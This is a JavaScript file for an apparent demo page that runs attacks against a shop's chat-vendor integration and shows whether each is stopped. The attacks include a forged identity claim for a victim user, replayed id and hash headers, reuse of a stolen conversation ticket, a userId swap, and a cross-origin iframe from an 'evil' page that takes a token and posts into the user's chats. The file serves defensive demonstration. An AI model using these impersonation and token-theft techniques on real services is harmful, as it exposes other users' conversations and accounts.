// Each attack does what an attacker would do, and gives what was sent, what came
// back, and whether it was stopped, where that can be told.
"use strict";
{
  const page = document.querySelector(".attacks");
  const { victim, vendor } = page.dataset;

  // ask fails where nothing was refused, but the shop or Bookbag had no answer.
  async function ask(path, options) {
    const response = await fetch(path, options);
    if (response.status === 429 || response.status >= 500) throw new Error(`status ${response.status}`);
    return response;
  }

  // tried asks the shop as a page of its own would. Any other refusal has stopped it.
  async function tried(method, path, { body, ...more } = {}) {
    const json = body && { body: JSON.stringify(body), headers: { "Content-Type": "application/json" } };
    const response = await ask(path, { method, ...json, ...more });
    const came = `${response.status} ${(await response.text()).trim()}`;
    return { line: `${method} ${path}`, sent: body ?? more.headers, came, stopped: !response.ok };
  }

  const attacks = {
    async *hash() {
      const claim = { ...window.ainisaUser, user_id: victim };
      const path = `${vendor}/ainisa/identify`;
      const response = await fetch(path, { method: "POST", body: JSON.stringify({ visitor: crypto.randomUUID(), claim }), credentials: "omit" });
      const { accepted, reason } = await response.json();
      yield { line: `POST ${path}`, sent: claim, came: reason, stopped: !accepted };
    },
    async *action() {
      const claim = { ...window.ainisaUser, user_id: victim };
      const { request, status, body } = await window.ainisaStandin.act(claim);
      yield { line: `Ainisa: ${request}`, sent: claim, came: `${status} ${body}`, stopped: status !== 200 };
    },
    async *key() {
      const { user_id, user_hash } = window.ainisaUser;
      yield tried("GET", "/ainisa/orders", { headers: { "X-User-Id": user_id, "X-User-Hash": user_hash } });
    },
    async *ticket() {
      const stolen = await ask("/attacks/ticket", { method: "POST" });
      const { conversation } = await stolen.json();
      yield tried("GET", `/api/chat/conversations/${encodeURIComponent(conversation)}/messages`);
      yield tried("POST", "/api/chat/messages", { body: { message: "What did I say?", conversation } });
    },
    async *userid() {
      yield tried("POST", "/api/chat/messages", { body: { message: "Where is my order?", userId: victim } });
    },
    async *origin() {
      const before = await latestChat();
      const frame = element("iframe", { title: "A page of another site", src: `${vendor}/evil/` });
      document.querySelector("[data-attack=origin]").append(frame);
      const token = await messageFrom(frame);
      yield { ...token, stopped: token.came.startsWith("TypeError") };
      yield await messageFrom(frame);
      frame.remove();
      const stopped = (await latestChat()) === before;
      yield { line: "Your chats afterwards", came: stopped ? "the same as before" : "one has a new message", stopped };
    },
  };

  const latestChat = () => ask("/api/chat/conversations?limit=1").then((response) => response.text());

  const messageFrom = (frame) =>
    new Promise((resolve, reject) => {
      const timeout = setTimeout(() => reject(new Error("no answer")), 10000);
      window.addEventListener("message", function hear({ origin, source, data }) {
        if (origin !== vendor || source !== frame.contentWindow) return;
        window.removeEventListener("message", hear);
        clearTimeout(timeout);
        resolve(data);
      });
    });

  const shorten = (text) => (text.length > 400 ? `${text.slice(0, 400)}…` : text);

  const outcome = ({ line, sent, came, stopped }) => [
    element("p", { className: "request" }, line),
    ...(sent ? [element("pre", {}, JSON.stringify(sent, null, 2))] : []),
    element("pre", {}, shorten(came)),
    ...(stopped === undefined ? [] : [
      element("p", { className: `verdict ${stopped ? "accepted" : "refused"}` }, stopped ? "Stopped." : "It went through!")]),
  ];

  page.addEventListener("click", async ({ target }) => {
    const card = target.closest(".attack");
    if (!card || target.localName !== "button") return;
    const place = card.querySelector(".outcome");
    place.replaceChildren();
    card.querySelector("iframe")?.remove(); // of a try that failed
    target.disabled = true;
    try {
      for await (const result of attacks[card.dataset.attack]()) place.append(...outcome(result));
      card.dataset.state = "done";
    } catch {
      place.append(element("p", { className: "verdict" }, "This could not be tried at the moment. Please try again."));
    }
    target.disabled = false;
  });
}
